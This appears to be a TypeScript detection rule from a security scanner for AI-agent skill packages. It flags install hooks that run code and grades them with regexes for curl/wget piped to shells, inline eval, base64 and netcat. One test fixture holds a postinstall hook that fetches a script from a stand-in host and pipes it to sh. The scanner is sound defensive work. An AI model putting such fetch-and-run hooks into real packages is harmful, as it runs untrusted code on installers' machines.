import type { PackageHook } from "../dependencies/dependency.ts";
import { readPackageHooks } from "../dependencies/read-dependencies.ts";
import type { Fact, Operation } from "../facts.ts";
import type { Match, ScanSeverity } from "../types.ts";
import { stepOf } from "./flow.ts";
import type { Evidence, Rule } from "./rule.ts";

/** Hooks that many projects have and that build or wire up what is there. */
const USUAL =
  /^(?:npx\s)?(?:husky|patch-package|prisma generate|playwright install|node-gyp rebuild|tsc|npm run build|pnpm (?:run )?build|yarn build|lefthook install|simple-git-hooks|nuxt prepare|svelte-kit sync|electron-builder install-app-deps|is-ci|echo\b|true|exit 0|only-allow\b|node-gyp-build)/;
const PIPED =
  /\b(?:curl|wget|iwr|invoke-webrequest)\b[^|\n]{0,400}\|\s{0,9}(?:sudo )?(?:ba|z|da|k)?sh\b|\|\s{0,9}(?:iex|node|python3?)\b/i;
const INLINE =
  /\b(?:node|deno|bun)\s(?:-e|--eval|-p|eval)\b|\bpython3?\s-c\b|\bpowershell\b.{0,40}-e(?:nc|ncodedcommand)?\b|\bbase64\b|\$\(|`/i;
const NETWORK = /https?:\/\/|\b(?:curl|wget|nc|ncat|fetch|invoke-webrequest)\b/i;

function findHooks(evidence: Evidence): readonly Match[] {
  return readPackageHooks(evidence.files)
    .filter(({ command }) => !USUAL.test(command.trim()) || PIPED.test(command))
    .flatMap((hook) => {
      const facts = factsOf(hook, evidence.facts);
      const severity = gravityOf(hook, facts);
      if (severity === null) return [];
      return [
        {
          at: hook.at,
          evidence: `${hook.name}: ${hook.command}`.slice(0, 200),
          message: `Installing the skill's own package runs: ${hook.command.slice(0, 120)}`,
          chain: facts.slice(0, 6).map(stepOf),
          severity,
        },
      ];
    });
}

/** What the hook's own line does, and the script of the skill that it starts. */
function factsOf(hook: PackageHook, facts: readonly Fact[]): readonly Fact[] {
  const folder = hook.at.file.split("/").slice(0, -1);
  const scripts = [...hook.command.matchAll(/(?:\.\/)?([\w@./-]{1,120}\.(?:[cm]?[jt]s|py|sh))\b/g)]
    .slice(0, 10)
    .map(([, path = ""]) => [...folder, path.replace(/^\.\//, "")].join("/"));
  const isOfHook = ({ at }: Fact) =>
    (at.file === hook.at.file && (at.line === hook.at.line || hook.name === "cmdclass")) ||
    scripts.includes(at.file);
  return facts.filter((fact) => isOfHook(fact) && WEIGHTY.has(fact.op));
}

const WEIGHTY: ReadonlySet<Operation> = new Set([
  "read-secret",
  "read-environment",
  "send",
  "download",
  "evaluate",
  "schedule",
  "capture",
  "listen",
  "publish",
]);

function gravityOf({ name, command }: PackageHook, facts: readonly Fact[]): ScanSeverity | null {
  const does = (...ops: readonly Operation[]) => facts.some(({ op }) => ops.includes(op));
  if (PIPED.test(command) || (INLINE.test(command) && NETWORK.test(command))) return "high";
  if (does("read-secret", "read-environment", "capture") && does("send")) return "high";
  if (does("evaluate") && does("download", "send")) return "high";
  if (does("schedule", "listen", "publish", "read-secret") || does("send", "evaluate"))
    return "medium";
  if (name.includes("prepare")) return null;
  return "low";
}

export const SUPPLY_CHAIN_HOOK_RULES: readonly Rule[] = [
  {
    id: "supply-chain.install-hook",
    family: "supply-chain",
    title: "Code runs when the skill's package is installed",
    severity: "low",
    confidence: "structural",
    owasp: ["AST02"],
    why: "npm and pip run it without asking, before anybody has used the skill.",
    remedy: "Leave it out; say in SKILL.md what has to be run, and let the person run it.",
    find: findHooks,
    examples: {
      flags: [
        {
          name: "a hook that fetches and runs",
          files: {
            "package.json": '{"scripts": {"postinstall": "curl -s https://h.example/i | sh"}}\n',
          },
        },
        {
          name: "a hook that runs a file of the skill",
          files: {
            "package.json": '{"scripts": {"preinstall": "node scripts/setup.js"}}\n',
            "scripts/setup.js": "console.log('hello')\n",
          },
        },
        {
          name: "a setup.py with its own install",
          files: {
            "setup.py":
              "from setuptools import setup\nsetup(name='x', cmdclass={'install': Mine})\n",
          },
        },
      ],
      passes: [
        {
          name: "a hook that wires up git hooks",
          files: { "package.json": '{"scripts": {"prepare": "husky", "build": "tsc"}}\n' },
        },
        {
          name: "a script that nothing runs by itself",
          files: { "package.json": '{"scripts": {"setup": "node setup.js"}}\n' },
        },
      ],
    },
  },
];
